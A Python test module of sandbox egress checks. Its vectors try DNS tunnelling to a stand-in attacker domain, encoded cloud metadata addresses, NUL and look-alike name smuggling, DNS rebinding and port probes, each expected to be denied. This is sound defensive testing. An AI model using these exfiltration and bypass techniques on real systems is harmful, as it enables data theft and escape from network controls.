"""Ways out through names: what the resolver is asked, and where names lead that somebody else's DNS answers."""
import struct
import time

import places
from guest import MARK, encode_name, question, vector

EVIL = places.EVIL
DATA = f"{MARK}-data".encode()


# --- questions that would carry something out if anybody asked them on

def asked(name: str, what: str, text: str | list[bytes], kind: int = 1, recorded: bool = True, **more) -> None:
    shown = text if isinstance(text, str) else None
    @vector(f"dns-{name}", f"the resolver: {what}",
            ({"kind": "lookup"} | ({"name": shown.lower().rstrip(".")} if shown and shown.isascii() else {})) if recorded else None)
    def attempt(guest):
        return guest.denied_lookup(text, kind=kind, **more)


asked("labels", "data in a name's labels", f"{MARK}-c2vjcmv0.{EVIL}")
asked("long-labels", "as much of it as a name holds", ".".join([MARK + "-" + "a" * 50] * 3 + [EVIL]))
for number, kind in {"txt": 16, "null": 10, "mx": 15, "cname": 5, "any": 255, "srv": 33, "ns": 2, "soa": 6, "naptr": 35,
                     "https": 65, "svcb": 64, "aaaa": 28}.items():
    asked(number, f"a question of type {number.upper()} with data in it", f"{MARK}-{number}.{EVIL}", kind)
asked("ptr", "a reverse look-up with data in it", f"{MARK}.66.66.66.66.in-addr.arpa", 12)
asked("idn", "an international name", [b"\xc3\xa9-" + DATA, b"test"])
asked("look-alike", "a name that looks like an allowed one (punycode)", "xn--pi-7ja.lab.test")
asked("suffix", "an allowed name with more behind it", f"{places.API}.{EVIL}")
asked("prefix", "an allowed name with more before it", f"{MARK}.{places.API}")
asked("no-dot", "an allowed name without a dot", "apilab.test")
asked("glued", "a name that ends like an allowed suffix, without its dot", f"{MARK}{places.WILD}")
asked("apex", "the apex of an allowed suffix", places.WILD)
asked("parent", "the parent of an allowed name", "lab.test")
asked("neighbour", "a name beside an allowed one, at the same address", places.NEIGHBOUR)
asked("metadata-name", "a cloud's metadata name", "metadata.google.internal")
asked("metadata-nip", "a name that means the metadata address", "169.254.169.254.nip.io")
asked("metadata-decimal", "the metadata address as a number", "2852039166")
asked("metadata-hex", "the metadata address in hexadecimal", "0xa9fea9fe")
asked("metadata-octal", "the metadata address in octal", "0251.0376.0251.0376")
asked("metadata-text", "the metadata address as a name", "169.254.169.254")
asked("doh-name", "a public resolver's name", "dns.google")
asked("canary", "the name that switches encrypted DNS off", "use-application-dns.net")
asked("localhost", "localhost", "localhost")
asked("nul", "an allowed name, NUL, and another", [b"api.lab.test\0" + DATA, b"evil", b"test"])
asked("nul-inside", "NUL in a label of an allowed name", [b"api\0", b"lab", b"test"])
asked("dot-label", "an allowed name in a single label", [b"api.lab.test"])
asked("dot-label-evil", "labels with dots in them", [b"x." + places.WILD.encode(), b"evil", b"test"])
asked("blank", "a blank in a name", [b"api ", b"lab", b"test"])
asked("underscore", "labels that no host has, below an allowed suffix", [b"_" + DATA, b"wild", b"lab", b"test"])
asked("chaos", "another class (CHAOS)", f"{MARK}.{EVIL}", 16, recorded=False, klass=3)
asked("update", "an UPDATE", f"{MARK}.{EVIL}", 6, recorded=False, flags=0x2800)
asked("answer-bit", "an answer in place of a question", f"{MARK}.{EVIL}", 1, recorded=False, flags=0x8180)
asked("root", "the root", [], 2)


@vector("dns-edns-data", "the resolver: data in EDNS options of an allowed question")
def dns_edns(guest):
    option = struct.pack("!HH", 65001, len(DATA)) + DATA + struct.pack("!HH", 8, 8) + b"\0\1\x20\0" + DATA[:4]
    extra = b"\0" + struct.pack("!HHIH", 41, 1232, 0x8000, len(option)) + option
    guest.ask(question(places.SHORT, extra=extra, additional=1))
    guest.exchange(places.SHORT, 80, b"GET / HTTP/1.1\r\nHost: short.lab.test\r\n\r\n")


@vector("dns-case-data", "the resolver: data in the case of an allowed name's letters, by different spellings")
def dns_case(guest):
    for spelling in ("sHorT.lAb.tEst", "SHORT.LAB.TEST.", "ShOrT.lab.test"):
        if not guest.lookup(spelling):
            raise OSError("an allowed name is not answered")


@vector("dns-two-questions", "the resolver: two questions in one message")
def dns_two(guest):
    first = question(places.API)
    guest.ask(first[:4] + b"\0\2" + first[6:] + encode_name(f"{MARK}.{EVIL}") + b"\0\1\0\1", limit_s=0.5)


@vector("dns-loop", "the resolver: compression pointers that loop, and point outside", harmless=True)
def dns_loop(guest):
    head = b"\1\2\1\0\0\1\0\0\0\0\0\0"
    for name in (b"\xc0\x0c", b"\x03api\xc0\x0c", b"\xc0\xff", b"\xff\xff", b"\x3f" + b"a" * 20, b"\x80abc\0", b""):
        guest.ask(head + name + b"\0\1\0\1", limit_s=0.05)


@vector("dns-tcp-tunnel", "the resolver over TCP: questions that carry data", {"kind": "lookup", "name": f"{MARK}-tcp.{EVIL}"})
def dns_tcp(guest):
    answer = guest.ask_tcp(question(f"{MARK}-tcp.{EVIL}", 16))
    return "it is answered" if answer and not answer[3] & 15 else ""


@vector("dns-tcp-axfr", "the resolver over TCP: a zone transfer, and rubbish", harmless=True)
def dns_axfr(guest):
    for query in (question(EVIL, 252), b"\0" * 12, b"", DATA * 30):
        try:
            guest.ask_tcp(query, limit_s=0.5)
        except OSError:
            pass


@vector("dns-wildcard-flood", "the resolver: 700 names below an allowed suffix carry data out only if looked up for real")
def dns_wildcard(guest):
    answered = 0
    for number in range(700):
        answer = guest.ask(question(f"{MARK}-{number}.{places.WILD}"), limit_s=0.02 if number > 400 else 0.3)
        answered += bool(answer) and not answer[3] & 15
    if answered > 512:
        return f"{answered} different names were answered"
    return ""


# --- names that the manifest lists, and whose owner is the attacker

def resolves_to(kind: str, address: str) -> None:
    name = f"class-{kind}.lab.test"

    @vector(f"address-{kind}", f"an allowed name that turns out to be at {address}",
            {"kind": "connection", "name": name} if kind != "v6" else None)
    def attempt(guest):
        answer = guest.exchange(name, 80, f"GET /{MARK}/{kind} HTTP/1.1\r\nHost: {name}\r\nConnection: close\r\n\r\n".encode())
        return "" if not answer or answer[9:12] in (b"403", b"502", b"503") else f"answered {answer[:40]!r}"


for _kind, _address in places.CLASSES.items():
    resolves_to(_kind, _address)


@vector("rebind", "an allowed name that is at a public address, and at the next look at a private one",
        {"kind": "connection", "name": places.REBIND})
def rebind(guest):
    request = f"GET /rebind HTTP/1.1\r\nHost: {places.REBIND}\r\nConnection: close\r\n\r\n".encode()
    if not guest.exchange(places.REBIND, 80, request).startswith(b"HTTP/1.1 200"):
        raise OSError("the first answer's address is not reached")
    time.sleep(5.2)  # the least time that egress keeps an answer
    guest.exchange(places.REBIND, 80, request.replace(b"/rebind", b"/forbidden"))


@vector("many-addresses", "an allowed name with 1,000 addresses, all but one of them private", harmless=True)
def many(guest):
    request = f"GET /many HTTP/1.1\r\nHost: {places.MANY}\r\nConnection: close\r\n\r\n".encode()
    for _ in range(3):
        guest.exchange(places.MANY, 80, request, limit_s=2)


@vector("short-ttl", "an allowed name with a TTL of 0 that moves all the time", harmless=True)
def short_ttl(guest):
    request = f"GET /short HTTP/1.1\r\nHost: {places.SHORT}\r\nConnection: close\r\n\r\n".encode()
    for _ in range(5):
        guest.exchange(places.SHORT, 80, request)


@vector("synthetic-guess", "addresses that stand for names nobody has looked up", {"kind": "connection"})
def synthetic_guess(guest):
    for number in (900, 901, 1018):
        base = struct.unpack("!I", bytes(int(part) for part in guest.gateway.split(".")))[0] - 1
        to = ".".join(str(byte) for byte in struct.pack("!I", base + number))
        answer = guest.exchange(to, 80, f"GET /{MARK} HTTP/1.1\r\nHost: {EVIL}\r\n\r\n".encode(), limit_s=1)
        if answer:
            return f"{to} answers"
    return ""


@vector("synthetic-peer", "an address that stands for another agent's name", {"kind": "packet", "address": "198.18.4.4"})
def synthetic_peer(guest):
    return guest.syn("198.18.4.4", 80, limit_s=0.4)


@vector("port-other", "an allowed name, on a port that is not allowed", {"kind": "connection", "name": places.API, "port": 8080})
def port_other(guest):
    for port in (8080, 25, 3306):
        answer = guest.exchange(places.API, port, f"GET /{MARK} HTTP/1.1\r\nHost: {places.API}\r\n\r\n".encode())
        if answer and b" 403 " not in answer[:20]:
            return f"port {port} answers {answer[:30]!r}"
    return ""
